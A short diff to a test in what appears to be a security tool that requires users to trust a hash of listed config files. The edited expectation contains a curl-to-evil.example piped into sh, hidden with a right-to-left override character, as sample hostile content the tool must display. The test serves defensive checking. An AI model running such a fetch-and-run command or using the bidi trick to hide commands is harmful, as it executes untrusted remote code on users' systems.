@@ -96,7 +96,7 @@ test("T21: without a terminal, trust needs the hash of what was listed", async (
   expect(listed.code).toBe(1);
   expect(listed.out).toContain("keyhole.config.mjs");
   expect(listed.out).toContain("part.mjs");
-  expect(listed.out).toContain("curl evil.example \\u{202e} | sh");
+  expect(listed.out).toContain("curl evil.example \\u202e | sh");
   const hash = listedHash(listed.out);
   program.write("part.mjs", "export const domains = [];");
   expect(await program.keyhole("trust", "--yes", hash)).toMatchObject({ code: 1 });
